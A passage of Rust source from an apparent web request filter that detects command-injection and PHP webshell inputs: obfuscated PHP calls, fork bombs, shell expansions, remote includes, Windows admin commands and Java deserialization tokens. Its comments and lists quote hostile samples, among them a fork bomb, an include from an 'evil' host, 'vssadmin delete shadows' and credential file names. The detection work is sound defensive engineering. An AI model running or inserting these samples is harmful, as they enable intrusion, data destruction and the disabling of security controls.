    .any(|d| t.starts_with(d) && matches!(t.get(d.len()), None | Some(b'/' | b' ')));
    t.len() + 2 <= s.len() - from
        && (root || ANYWHERE.found_in(t) || super::traversal::system_file(t))
}

/// A word hidden in a brace expansion the shell performs (`c{a,oun}t`,
/// `{l,-lh}s`): the braces sit inside a word, and one of the words they
/// expand to is a program. A bare list (`{id,name}`) is not inside a word.
fn brace_word(s: &[u8]) -> bool {
    let mut from = 0;
    // The first `}` after the current `{`, found once for every `{` before
    // it: `{{{{...` costs one pass, not 48 bytes per brace.
    // (`usize::MAX`: no `}` after it at all.)
    let mut close = 0;
    while let Some(p) = s.get(from..).and_then(|t| memchr::memchr(b'{', t)) {
        let open = from + p;
        from = open + 1;
        if close <= open {
            close = memchr::memchr(b'}', &s[open + 1..]).map_or(usize::MAX, |c| open + 1 + c);
        }
        if close == usize::MAX {
            // No `}` after this `{`, so none after any later one.
            break;
        }
        let len = close.saturating_sub(open + 1);
        if len >= 48 {
            continue;
        }
        let is_word = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.');
        let prefix = s[..open]
            .iter()
            .rev()
            .take(16)
            .take_while(|b| is_word(b))
            .count();
        let inner = &s[open + 1..open + 1 + len];
        let after = &s[open + 2 + len..];
        let suffix = after.iter().take(16).take_while(|b| is_word(b)).count();
        if prefix + suffix == 0
            || !inner.contains(&b',')
            || !inner.iter().all(|b| is_word(b) || *b == b',')
        {
            continue;
        }
        let expands = inner.split(|&b| b == b',').any(|alt| {
            let mut word = [0u8; 24];
            let parts = [&s[open - prefix..open], alt, &after[..suffix]];
            let n: usize = parts.iter().map(|p| p.len()).sum();
            if n == 0 || n > word.len() {
                return false;
            }
            let mut k = 0;
            for part in parts {
                word[k..k + part.len()].copy_from_slice(part);
                k += part.len();
            }
            commands::lookup(&word[..n]).is_some()
        });
        if expands {
            return true;
        }
    }
    false
}

/// A program named by its path in a binary directory (`bin/ansible`,
/// `/usr/sbin/useradd`, `/bin/busybox sh`): the value runs it.
fn bin_path(s: &[u8]) -> bool {
    let t = s.trim_ascii_start();
    let t = t.strip_prefix(b"/").unwrap_or(t);
    let t = t
        .strip_prefix(b"usr/local/")
        .or_else(|| t.strip_prefix(b"usr/"))
        .unwrap_or(t);
    let Some(t) = t.strip_prefix(b"bin/").or_else(|| t.strip_prefix(b"sbin/")) else {
        return false;
    };
    let len = t
        .iter()
        .take(25)
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
        .count();
    let next = t.get(len).copied();
    len < 25 && (ends_command(next) || next == Some(b' ')) && commands::lookup(&t[..len]).is_some()
}

/// A program named by its full path later in the value (`x /bin/bash -c
/// id`, `cmd=/usr/bin/python3 -c`): after a space, quote, `=` or `:`, a
/// binary directory then a program that is no ordinary word, ending there
/// or followed by an option. A shebang (`#!/bin/bash` in a code sample)
/// names an interpreter, not a command run.
fn bin_path_in(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b"bin/")) {
        let at = from + p;
        from = at + 4;
        let dir = [
            b"/usr/local/s" as &[u8],
            b"/usr/local/",
            b"/usr/s",
            b"/usr/",
            b"/s",
            b"/",
        ]
        .iter()
        .find(|d| s[..at].ends_with(d))
        .map(|d| at - d.len());
        let Some(start) = dir else { continue };
        if start == 0
            || !matches!(s[start - 1], b' ' | b'\'' | b'"' | b'=' | b':' | b'(')
            || s[..start].ends_with(b"#!")
            || s[..start].ends_with(b"#! ")
        {
            continue;
        }
        let t = &s[at + 4..];
        let len = t
            .iter()
            .take(25)
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
            .count();
        let next = t.get(len).copied();
        // Run: the value or command ends, or an option follows ("set the
        // interpreter to /usr/bin/python3 for x" names a file).
        let runs = ends_command(next) || next == Some(b' ') && t.get(len + 1) == Some(&b'-');
        if len < 25 && runs && commands::lookup(&t[..len]) == Some(Word::Program) {
            return true;
        }
    }
    false
}

/// PHP configuration directives a value sets (`allow_url_include=1`,
/// `auto_prepend_file=/tmp/x`, `memory_limit = 512M`): what a `-d` option
/// of CGI PHP, a `.user.ini` or `php_value` injects. Sorted.
const PHP_INI: &[&[u8]] = &[
    b"allow_url_fopen",
    b"allow_url_include",
    b"auto_append_file",
    b"auto_prepend_file",
    b"default_socket_timeout",
    b"disable_classes",
    b"disable_functions",
    b"display_errors",
    b"display_startup_errors",
    b"doc_root",
    b"enable_dl",
    b"engine",
    b"error_log",
    b"error_reporting",
    b"expose_php",
    b"extension",
    b"extension_dir",
    b"file_uploads",
    b"html_errors",
    b"include_path",
    b"log_errors",
    b"magic_quotes_gpc",
    b"max_execution_time",
    b"max_input_time",
    b"max_input_vars",
    b"memory_limit",
    b"open_basedir",
    b"output_buffering",
    b"output_handler",
    b"post_max_size",
    b"precision",
    b"realpath_cache_size",
    b"register_argc_argv",
    b"register_globals",
    b"request_order",
    b"safe_mode",
    b"sendmail_path",
    b"serialize_precision",
    b"short_open_tag",
    b"sys_temp_dir",
    b"unserialize_callback_func",
    b"unserialize_max_depth",
    b"upload_max_filesize",
    b"upload_tmp_dir",
    b"user_dir",
    b"variables_order",
    b"zend_extension",
];

/// Sections of php.ini whose directives are dotted (`opcache.enable`).
const PHP_INI_SECTIONS: &[&[u8]] = &[
    b"assert.",
    b"cgi.",
    b"mbstring.",
    b"opcache.",
    b"pcre.",
    b"phar.",
    b"session.",
    b"user_ini.",
    b"xdebug.",
    b"zend.",
];

/// A value that is one php.ini assignment: `directive = value`.
fn php_ini(s: &[u8]) -> bool {
    let t = s.trim_ascii();
    let Some(eq) = t.iter().take(48).position(|&b| b == b'=') else {
        return false;
    };
    let name = t[..eq].trim_ascii_end();
    let value = t[eq + 1..].trim_ascii_start();
    if value.is_empty()
        || value.len() > 80
        || value
            .iter()
            .any(|&b| matches!(b, b'=' | b'&' | b' ' | b'\n'))
        || !name
            .iter()
            .all(|b| b.is_ascii_lowercase() || matches!(b, b'_' | b'.'))
    {
        return false;
    }
    // A directive that is also an ordinary word (`engine`, `precision`,
    // `extension`) names settings outside PHP too (`engine=v8`,
    // `precision=high`): it counts only with a value php.ini would take.
    let word = !name.iter().any(|b| matches!(b, b'_' | b'.'));
    if word && !ini_value(value) {
        return false;
    }
    PHP_INI.binary_search(&name).is_ok()
        || PHP_INI_SECTIONS.iter().any(|p| {
            name.strip_prefix(*p)
                .is_some_and(|d| !d.is_empty() && !d.contains(&b'.'))
        })
}

/// A value of php.ini's own shapes: a switch (`on`, `off`, `1`...), a
/// number with an optional size unit (`14`, `-1`, `512m`), a quoted string, a
/// path, or a shared object (`x.so`, `php_x.dll`). Lowercased input.
fn ini_value(v: &[u8]) -> bool {
    let digits = v.strip_prefix(b"-").unwrap_or(v);
    let digits = match digits.last() {
        Some(b'k' | b'm' | b'g') => &digits[..digits.len() - 1],
        _ => digits,
    };
    matches!(
        v,
        b"on" | b"off" | b"true" | b"false" | b"yes" | b"no" | b"none"
    ) || (!digits.is_empty() && digits.iter().all(u8::is_ascii_digit))
        || matches!(v.first(), Some(b'"' | b'\'' | b'/' | b'\\'))
        || v.ends_with(b".so")
        || v.ends_with(b".dll")
}

/// PHP functions no prose or other language names: a call to one of them is
/// code wherever it is, even glued to a word (`FOOfsockopen()`) or with
/// space or a comment before its parenthesis (`gzuncompress /**/ ()`).
const PHP_ONLY: &[&[u8]] = &[
    b"assert_options",
    b"base64_decode",
    b"bzdecompress",
    b"call_user_func",
    b"create_function",
    b"file_get_contents",
    b"file_put_contents",
    b"fpassthru",
    b"fsockopen",
    b"get_current_user",
    b"get_defined_functions",
    b"get_defined_vars",
    b"gzdecode",
    b"gzinflate",
    b"gzuncompress",
    b"highlight_file",
    b"ini_get",
    b"ini_set",
    b"move_uploaded_file",
    b"passthru",
    b"pcntl_exec",
    b"php_uname",
    b"phpinfo",
    b"posix_geteuid",
    b"posix_getpwuid",
    b"posix_getuid",
    b"posix_kill",
    b"posix_setuid",
    b"print_r",
    b"proc_open",
    b"scandir",
    b"shell_exec",
    b"show_source",
    b"str_rot13",
    b"var_dump",
    b"var_export",
    // Session 12 (CRS 933150's list): PHP's file functions that read a
    // `phar://` archive's metadata, so unserialize it (image, EXIF and
    // hash readers), the runkit functions that redefine code, and output
    // capture and database calls that webshells make.
    b"imagecreatefrom",
    b"getimagesize",
    b"exif_imagetype",
    b"exif_tagname",
    b"exif_thumbnail",
    b"read_exif_data",
    b"finfo_open",
    b"hash_file",
    b"hash_hmac_file",
    b"hash_update_file",
    b"gzwrite",
    b"image2wbmp",
    b"imagegd",
    b"iptcembed",
    b"setdefaultstub",
    b"runkit_constant_add",
    b"runkit_constant_redefine",
    b"runkit_function_add",
    b"runkit_function_copy",
    b"runkit_function_redefine",
    b"runkit_function_rename",
    b"runkit_method_add",
    b"runkit_method_copy",
    b"runkit_method_redefine",
    b"runkit_method_rename",
    b"rename_function",
    b"set_magic_quotes_runtime",
    b"mb_ereg",
    b"mb_parse_str",
    b"debug_backtrace",
    b"ob_get_contents",
    b"ob_get_clean",
    b"ob_end_clean",
    b"pg_connect",
    b"pg_execute",
    b"pg_prepare",
    b"pg_query",
];

/// A function of [`PHP_ONLY`] (`f`) at `at` called or glued to code
/// punctuation.
fn php_only_at(s: &[u8], f: &[u8], at: usize) -> bool {
    let mut k = at + f.len();
    // `call_user_func_array(`: the listed name may go on.
    k += s[k..]
        .iter()
        .take(8)
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    // Or code punctuation glued to the name (`Shell_exec=(bla)`,
    // `$f=gzinflate;`, `passthru)`): the name in an expression, not in
    // a sentence ("use shell_exec, not exec.").
    call_follows(s, k) || matches!(s.get(k), Some(b'=' | b';' | b')' | b'[' | b'{'))
}

/// Whether a call's parenthesis follows at `k`, after spaces and PHP
/// comments (`#...` or `//...` to the line end).
fn call_follows(s: &[u8], mut k: usize) -> bool {
    for _ in 0..4 {
        while matches!(s.get(k), Some(b' ' | b'\n')) {
            k += 1;
        }
        match s.get(k) {
            Some(b'(') => return true,
            Some(b'#') => {}
            Some(b'/') if s.get(k + 1) == Some(&b'/') => {}
            _ => return false,
        }
        match s[k..].iter().take(64).position(|&b| b == b'\n') {
            Some(nl) => k += nl + 1,
            None => return false,
        }
    }
    false
}

/// A function name in quotes called (`"system"(x)`, `'exec'('id')`):
/// PHP calls a string.
fn quoted_name_call(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| memchr::memchr2(b'\'', b'"', t)) {
        let at = from + p;
        from = at + 1;
        let q = s[at];
        let len = s[at + 1..]
            .iter()
            .take(32)
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
        let name = &s[at + 1..at + 1 + len];
        if len > 0
            && s.get(at + 1 + len) == Some(&q)
            && s.get(at + 2 + len) == Some(&b'(')
            && PHP_FUNCTIONS.binary_search(&name).is_ok()
        {
            return true;
        }
    }
    false
}

/// A PHP function name built from string pieces and called through
/// parentheses: `'sys'.'tem'` ... `(x)('uname');`.
fn concatenated_call(s: &[u8]) -> bool {
    // The cheap test first: text full of quotes has no `;` more often than
    // not, and every `find` of a quote-led needle stops at each quote.
    if memchr::memchr(b';', s).is_none() {
        return false;
    }
    let called = [b")('" as &[u8], b")(\"", b") ('", b") (\""]
        .iter()
        .any(|c| find(s, c).is_some());
    called
        && ([b"'.'" as &[u8], b"\".\"", b"' . '", b"\" . \"", b"'+'"]
            .iter()
            .any(|j| find(s, j).is_some())
            || find(s, b").(").is_some())
}

/// A group that joins pieces with PHP's `.` into the name of a function of
/// [`PHP_FUNCTIONS`] and is called at once: `(sy.(st).em)(@id)`,
/// `('sys'.'tem')('id')`, `(s.y.s.t.e.m)(id)` (bare words are strings to
/// PHP 5 and 7). The pieces are names, quotes and groups only, so
/// `(a.b)(c)` (no such function) and `(obj.method)(x)` pass.
fn joined_name_call(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b")(")) {
        let close = from + p;
        from = close + 1;
        let (mut depth, mut k, mut dots) = (1u32, close, 0);
        let mut name = [0u8; 32];
        let mut len = 0;
        while k > 0 && close - k < 64 {
            k -= 1;
            match s[k] {
                b')' => depth += 1,
                b'(' => {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
                b'.' => dots += 1,
                b'\'' | b'"' | b' ' => {}
                b if b.is_ascii_alphanumeric() || b == b'_' => {
                    if len == name.len() {
                        break;
                    }
                    name[len] = b;
                    len += 1;
                }
                _ => break,
            }
        }
        if depth != 0 || dots == 0 || len == 0 {
            continue;
        }
        name[..len].reverse();
        if PHP_FUNCTIONS.binary_search(&&name[..len]).is_ok() {
            return true;
        }
    }
    false
}

/// A function computed by an expression and called with a string, as a
/// statement: `(sy.(st).em)('uname');`, `"sys"."tem" ('id');`,
/// `(z)[0][0]('uname');`. The callee ends in `)`, `]` or a string.
fn computed_call(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| memchr::memchr(b'(', t)) {
        let at = from + p;
        from = at + 1;
        let before = s[..at].iter().rev().find(|&&b| b != b' ').copied();
        if !matches!(before, Some(b')' | b']' | b'\'' | b'"')) {
            continue;
        }
        let mut k = at + 1;
        while s.get(k) == Some(&b' ') {
            k += 1;
        }
        let Some(&q) = s.get(k).filter(|b| matches!(b, b'\'' | b'"')) else {
            continue;
        };
        let Some(len) = s[k + 1..].iter().take(64).position(|&b| b == q) else {
            continue;
        };
        let mut e = k + len + 2;
        while s.get(e) == Some(&b' ') {
            e += 1;
        }
        if s.get(e) != Some(&b')') {
            continue;
        }
        e += 1;
        while s.get(e) == Some(&b' ') {
            e += 1;
        }
        if s.get(e) == Some(&b';') {
            return true;
        }
    }
    false
}

/// A shell function whose body starts by calling itself twice, joined by a
/// pipe or `&` (`:(){ :|:& };:`, `f(){ f|f& };f`, `bomb() { bomb & bomb; }`):
/// the fork bomb, whichever name it is given. A recursive function in code
/// calls itself once, with arguments (`f(){ return f(n-1) }`), and a
/// function's body that starts with another call (`a(){ b|c }`) passes.
fn fork_bomb(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b"()")) {
        let at = from + p;
        from = at + 2;
        let name_len = s[..at]
            .iter()
            .rev()
            .take(33)
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b':' | b'.' | b'-'))
            .count();
        if name_len == 0 || name_len > 32 {
            continue;
        }
        let name = &s[at - name_len..at];
        let spaces = |k: usize| {
            k + s[k.min(s.len())..]
                .iter()
                .take_while(|&&b| b == b' ')
                .count()
        };
        let mut k = spaces(at + 2);
        if s.get(k) != Some(&b'{') {
            continue;
        }
        // The body's first call, its `()` if any, the operator, the second.
        let mut calls = 0;
        k = spaces(k + 1);
        loop {
            if !s.get(k..).is_some_and(|t| t.starts_with(name)) {
                break;
            }
            k += name.len();
            if s.get(k..k + 2) == Some(b"()") {
                k += 2;
            }
            k = spaces(k);
            calls += 1;
            if calls == 2 {
                return true;
            }
            match (s.get(k), s.get(k + 1)) {
                (Some(b'|'), Some(b'|')) | (Some(b'&'), Some(b'&')) => break,
                (Some(b'|' | b'&'), _) => k = spaces(k + 1),
                _ => break,
            }
        }
    }
    false
}

/// What only an interactive shell reads, as the whole value: tilde
/// expansion of the working directories (`~+`, `~-`, `~+2`, `~-/x`, the
/// current and previous directory), history expansion (`!-1`, `!-2!-1`,
/// the commands run before), and a command word escaped with `\` so that
/// no alias replaces it (`\ls`, `\cat -n x`). Text has no such value: a
/// tilde before a number is followed by the number (`~5`), LaTeX commands
/// (`\frac{`) are no programs, and a written-out `\n` is one letter.
fn interactive_shell(s: &[u8]) -> bool {
    match s {
        [b'~', b'+' | b'-', rest @ ..] => {
            let digits = rest.iter().take_while(|b| b.is_ascii_digit()).count();
            matches!(rest.get(digits), None | Some(b'/'))
        }
        [b'!', b'-', d, ..] => d.is_ascii_digit(),
        [b'\\', rest @ ..] => {
            let len = rest
                .iter()
                .take(24)
                .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'))
                .count();
            let next = rest.get(len).copied();
            len >= 2
                && match commands::lookup(&rest[..len]) {
                    Some(Word::Program) => matches!(next, None | Some(b' ')),
                    Some(Word::Ordinary) => {
                        next.is_none() || (next == Some(b' ') && arg_shaped(s, len + 2, false))
                    }
                    None => false,
                }
        }
        _ => false,
    }
}

/// `$ { CONSTANT }`: PHP's variable variable spaced out inside and out,
/// which PHP reads and no template syntax writes (`${name}` is a
/// placeholder in many, and "price $ {amount}" is text: neither is
/// flagged).
fn spaced_variable_variable(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b"$ {")) {
        let at = from + p + 3;
        from = at;
        let mut k = at;
        if !matches!(s.get(k), Some(b' ' | b'\n')) {
            continue;
        }
        while matches!(s.get(k), Some(b' ' | b'\n')) {
            k += 1;
        }
        let name = s[k..]
            .iter()
            .take(64)
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
        if name == 0 {
            continue;
        }
        k += name;
        if !matches!(s.get(k), Some(b' ' | b'\n')) {
            continue;
        }
        while matches!(s.get(k), Some(b' ' | b'\n')) {
            k += 1;
        }
        if s.get(k) == Some(&b'}') {
            return true;
        }
    }
    false
}

/// Programs that change or read a system's security state and take verbs,
/// not options (`netsh firewall set opmode disable`, `wmic process call
/// create calc`, `vssadmin delete shadows`): a value that runs one with an
/// argument is a command line whatever the argument looks like, and prose
/// does not open with these Windows tools (Linux ones such as `systemctl`
/// open support tickets, "systemctl status shows..."; their options are
/// read by [`command_line`]).
const ADMIN_PROGRAMS: &[&[u8]] = &[
    b"bcdedit",
    b"fsutil",
    b"icacls",
    b"netsh",
    b"schtasks",
    b"takeown",
    b"vssadmin",
    b"wevtutil",
    b"wmic",
];

fn admin_command(s: &[u8]) -> bool {
    let s = s.trim_ascii_start();
    let len = s
        .iter()
        .take(16)
        .take_while(|b| b.is_ascii_alphanumeric())
        .count();
    let mut word = &s[..len];
    let mut rest = &s[len..];
    if let Some(r) = rest.strip_prefix(b".exe") {
        rest = r;
    }
    if !ADMIN_PROGRAMS.contains(&word) {
        return false;
    }
    word = rest.strip_prefix(b" ").unwrap_or(&[]);
    word.first()
        .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'-'))
}

/// The SQLite shell's own commands that run a program (`.shell ls`,
/// `;.system id`), where a value reaches the `sqlite3` command line.
fn sqlite_shell(s: &[u8]) -> bool {
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| memchr::memchr(b'.', t)) {
        let at = from + p;
        from = at + 1;
        let opens = s[..at]
            .iter()
            .rev()
            .find(|&&b| b != b' ')
            .is_none_or(|&b| matches!(b, b';' | b'\n' | b'|' | b'&'));
        let rest = &s[at + 1..];
        if opens
            && (rest.starts_with(b"shell ") || rest.starts_with(b"system "))
            && rest.iter().position(|&b| b == b' ').is_some_and(|k| {
                rest.get(k + 1)
                    .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'/')
            })
        {
            return true;
        }
    }
    false
}

/// cmd.exe's variables used to build a command: the interpreter by its
/// variable (`%COMSPEC% /c dir`) and a substring of a variable
/// (`%CommonProgramFiles:~10,-18%`, a space cut out of a path: `ping%..%127.0.0.1`).
fn cmd_variable(s: &[u8]) -> bool {
    if find(s, b"%comspec%").is_some() {
        return true;
    }
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| find(t, b":~")) {
        let at = from + p;
        from = at + 2;
        let name = s[..at]
            .iter()
            .rev()
            .take(40)
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
        if name == 0 || at - name == 0 || s[at - name - 1] != b'%' {
            continue;
        }
        let args = &s[at + 2..];
        let n = args
            .iter()
            .take(12)
            .take_while(|b| b.is_ascii_digit() || matches!(b, b',' | b'-'))
            .count();
        // The closing `%` may be gone: `%12` after it decodes as an escape.
        if n > 0 && args[0] != b',' {
            return true;
        }
    }
    false
}

/// PHP stream wrappers that run a command (`expect://id`, `ssh2.exec://`)
/// or read a file through a filter the include then executes
/// (`compress.zlib://`, `zlib://`, `rar://`, `ogg://`, `data://`, the form
/// of `data:` only PHP reads). `php://`, `phar://`, `zip://` and `glob://`
/// are the traversal class's.
const PHP_WRAPPERS: &[&[u8]] = &[
    b"expect://",
    b"ssh2.exec://",
    b"ssh2.shell://",
    b"ssh2.tunnel://",
    b"ssh2.sftp://",
    b"compress.zlib://",
    b"compress.bzip2://",
    b"zlib://",
    b"bzip2://",
    b"rar://",
    b"ogg://",
    b"data://",
];

/// A value that is a `data:` URL of plain text or of no media type in
/// base64 (`data:text/plain;base64,PD9w..`, `data:;base64,`): what a PHP
/// `include` of a URL parameter reads as code (`allow_url_include`).
/// Uploads as data URLs name their type (`data:image/png;base64,`).
fn php_data_wrapper(s: &[u8]) -> bool {
    let Some(rest) = s.trim_ascii_start().strip_prefix(b"data:") else {
        return false;
    };
    let rest = rest.strip_prefix(b"text/plain").unwrap_or(rest);
    rest.starts_with(b";base64,") || rest.starts_with(b",<?")
}

/// `include 'http://evil/x.txt'`, `require_once "x.php"`, `include_once(`:
/// PHP's file inclusion statement given a URL or a script as a string
/// (`include_once`/`require_once` with any string: no prose has them).
fn php_include(s: &[u8]) -> bool {
    let s = s.trim_ascii_start();
    let s = s.strip_prefix(b"@").unwrap_or(s);
    let Some((name, rest)) = [
        b"include_once" as &[u8],
        b"require_once",
        b"include",
        b"require",
    ]
    .iter()
    .find_map(|w| s.strip_prefix(*w).map(|r| (*w, r))) else {
        return false;
    };
    let rest = rest.trim_ascii_start();
    let rest = rest.strip_prefix(b"(").unwrap_or(rest).trim_ascii_start();
    let Some(&q) = rest.first().filter(|b| matches!(b, b'\'' | b'"')) else {
        return false;
    };
    let Some(len) = rest[1..].iter().take(256).position(|&b| b == q) else {
        return false;
    };
    let path = &rest[1..1 + len];
    name.ends_with(b"_once")
        || path.starts_with(b"http")
        || path.starts_with(b"ftp")
        || path.starts_with(b"//")
        || path.contains(&b'/')
        || SCRIPT_EXTENSIONS.iter().any(|e| {
            path.len() > e.len() && path.ends_with(e) && path[path.len() - e.len() - 1] == b'.'
        })
}

/// Shell-only expansions: arithmetic `$((...))` and parameter expansion
/// with an operator (`${PATH:0:1}`, `${x#{}}`, `${a%b}`, `${x//y/z}`,
/// `${#x}`, `${!x}`, `${x:-y}`): the obfuscations that build a command or
/// a `/` out of variables. A plain `${name}` is a template placeholder.
fn shell_expansion(s: &[u8]) -> bool {
    // The next `))` and `}` at or after a position, found again only once
    // passed, so a field of open expansions is read once (linear).
    let (mut close_paren, mut close_brace) = (0usize, 0usize);
    let next = |cache: &mut usize, from: usize, needle: &[u8]| {
        if *cache < from {
            *cache = find(&s[from.min(s.len())..], needle).map_or(usize::MAX, |p| from + p);
        }
        *cache
    };
    let mut from = 0;
    while let Some(p) = s.get(from..).and_then(|t| memchr::memchr(b'$', t)) {
        let at = from + p;
        from = at + 1;
        match s.get(at + 1) {
            Some(b'(')
                if s.get(at + 2) == Some(&b'(')
                    && next(&mut close_paren, at + 3, b"))") <= at + 67 =>
            {
                return true;
            }
            // Bash's old arithmetic `$[2+2]`, `$[a*7]`: operands joined by
            // an operator, closed within 32 bytes (JSONPath's `$[0]`,
            // `$[*]`, `$['a']` and `$[?(@.x)]` have no such expression).
            Some(b'[') if arithmetic(&s[at + 2..]) => return true,
            Some(b'{') => {
                let mut k = at + 2;
                if matches!(s.get(k), Some(b'#' | b'!')) {
                    k += 1;
                }
                let name = s[k..]
                    .iter()
                    .take(32)
                    .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                    .count();
                if name == 0 || s[k].is_ascii_digit() && name > 1 {
                    continue;
                }
                // Up to two bytes after the name (one when `}` ends the field: `${#path}`).
                let op = s.get(k + name..).map_or(&[][..], |t| &t[..t.len().min(2)]);
                let operator = match op {
                    [b':', b'-' | b'=' | b'+' | b'?' | b'0'..=b'9', ..] => true,
                    [b'#' | b'%' | b'/' | b'^' | b',', ..] => true,
                    // `${#x}`, `${!x}`: length, indirection.
                    [b'}', ..] => k > at + 2,
                    _ => false,
                };
                if operator && next(&mut close_brace, k + name, b"}") < k + name + 64 {
                    return true;
                }
            }
            _ => {}
        }
    }
    false
}

/// `2+2]`, `a*7]`, `(1<<3)-1]`: an arithmetic expression up to `]` with an
/// operator between two operands.
fn arithmetic(t: &[u8]) -> bool {
    let len = t
        .iter()
        .take(32)
        .take_while(|&&b| {
            b.is_ascii_alphanumeric()
                || matches!(
                    b,
                    b'_' | b'+'
                        | b'-'
                        | b'*'
                        | b'/'
                        | b'%'
                        | b'('
                        | b')'
                        | b' '
                        | b'<'
                        | b'>'
                        | b'^'
                )
        })
        .count();
    if t.get(len) != Some(&b']') {
        return false;
    }
    // Spaces around the operator are the shell's too (`$[ c - d ]`).
    let mut buf = [0u8; 32];
    let mut n = 0;
    for &b in t[..len].iter().filter(|&&b| b != b' ') {
        buf[n] = b;
        n += 1;
    }
    let e = &buf[..n];
    e.windows(3).any(|w| {
        w[0].is_ascii_alphanumeric()
            && matches!(w[1], b'+' | b'-' | b'*' | b'/' | b'%')
            && (w[2].is_ascii_alphanumeric() || w[2] == b'(')
    }) || e.windows(2).any(|w| w == b"**")
}

/// An uploaded file named as a PHP session file (`sess_<id>`, also with a
/// directory): session poisoning. Checked on the raw name, before the
/// prefilter skips it as a plain token.
pub fn session_file_name(raw: &[u8]) -> bool {
    let quote = |b: &u8| matches!(b, b'"' | b'\'' | b' ');
    let start = raw.iter().position(|b| !quote(b)).unwrap_or(raw.len());
    let end = raw.iter().rposition(|b| !quote(b)).map_or(start, |e| e + 1);
    let name = &raw[start..end.max(start)];
    let base = name
        .iter()
        .rposition(|&b| b == b'/' || b == b'\\')
        .map_or(name, |p| &name[p + 1..]);
    if DOTLESS_RESERVED
        .iter()
        .any(|r| base.eq_ignore_ascii_case(r))
    {
        return true;
    }
    base.len() > 5
        && base[..5].eq_ignore_ascii_case(b"sess_")
        && base[5..]
            .iter()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b',' | b'-'))
}

/// Account files named without a dot, matched whole before the plain-token
/// skip (session 11: [`RESERVED_FILE_NAMES`] holds `authorized_keys` and
/// `id_rsa` too, but a name made of identifier bytes never reached it): an
/// upload that replaces one grants a login (`authorized_keys`, the SSH
/// keys, `sudoers`) or the system's accounts (`passwd`, `shadow`).
/// "passwords.txt", "shadow.png", `Dockerfile` pass.
const DOTLESS_RESERVED: &[&[u8]] = &[
    b"authorized_keys",
    b"authorized_keys2",
    b"known_hosts",
    b"id_rsa",
    b"id_dsa",
    b"id_ecdsa",
    b"id_ed25519",
    b"sudoers",
    b"passwd",
    b"shadow",
    b"crontab",
];

/// A plain token (identifier bytes only, which the prefilter skips for
/// every class) that is a Java attack by itself (session 12, CRS 944120 and
/// 944130's kinds): the name of a deserialization gadget, of a bytecode or
/// expression-language internal (`InvokerTransformer`, `javassist`,
/// `OgnlContext`, Struts' `classLoader` and `_memberAccess`) as the whole
/// field, a Java serialization stream in URL-safe base64 (`rO0AB...`: the
/// stream's `AC ED 00 05` header, with no `+`, `/` or `=` in the rest) or
/// in hex (`aced0005...`). Whole-token matches only: "classloaders" or a
/// product code `ro0ab12` pass. Called on raw bytes of every plain token
/// the prefilter would skip, so it fails fast on length and first letter.
pub fn attack_token(raw: &[u8]) -> bool {
    if raw.len() < 8 {
        return false;
    }
    if raw.len() >= 13 && raw.starts_with(b"rO0AB") {
        return true;
    }
    if raw.len() >= 16
        && raw[..8].eq_ignore_ascii_case(b"aced0005")
        && raw.iter().all(u8::is_ascii_hexdigit)
    {
        return true;
    }
    const MAX: usize = 29;
    if raw.len() > MAX || JAVA_TOKEN_LEADS & (1u32 << (raw[0].to_ascii_lowercase() & 31)) == 0 {
        return false;
    }
    let mut low = [0u8; MAX];
    for (d, s) in low.iter_mut().zip(raw) {
        *d = s.to_ascii_lowercase();
    }
    JAVA_TOKENS.binary_search(&&low[..raw.len()]).is_ok()
}

/// A value that is one command printing who and where the server is, the
/// probe an injection starts with (session 12: `whoami`, `ifconfig`,
/// `netstat`, `uname`, `systeminfo`), in lower or upper case as a shell
/// or cmd runs it. Whole values only (query, form, cookie and body values,
/// see `Checks::whole_value`): no API term is spelled so, while `id`,
/// `pwd`, `hostname`, `env`, `reboot`, `ls` or `bash` are field values
/// too and stay unflagged alone, as argument names (`uname=john`), keys
/// and path segments (`/api/whoami`) do.
pub fn probe_command(raw: &[u8]) -> bool {
    if !(5..=10).contains(&raw.len()) {
        return false;
    }
    let lower = raw.iter().all(u8::is_ascii_lowercase);
    if !lower && !raw.iter().all(u8::is_ascii_uppercase) {
        return false;
    }
    let mut low = [0u8; 10];
    for (d, s) in low.iter_mut().zip(raw) {
        *d = s.to_ascii_lowercase();
    }
    [
        b"whoami" as &[u8],
        b"ifconfig",
        b"ipconfig",
        b"netstat",
        b"systeminfo",
        b"uname",
        b"tasklist",
        b"printenv",
        b"getuid",
    ]
    .contains(&&low[..raw.len()])
}

/// First letters of [`JAVA_TOKENS`] (bit `b & 31`: `_` is bit 31).
const JAVA_TOKEN_LEADS: u32 = {
    let mut m = 0u32;
    let mut i = 0;
    while i < JAVA_TOKENS.len() {
        m |= 1 << (JAVA_TOKENS[i][0] & 31);
        i += 1;
    }
    m
};

/// Java names that are attacks as a whole field, lowercased and sorted:
/// commons-collections' functor gadgets (CRS 944120), JDK gadget and
/// bytecode classes, Struts/OGNL and bean-utility internals (CRS 944130's
/// `java-classes.data`). The dotted classes are [`JAVA_GADGETS`]'s.
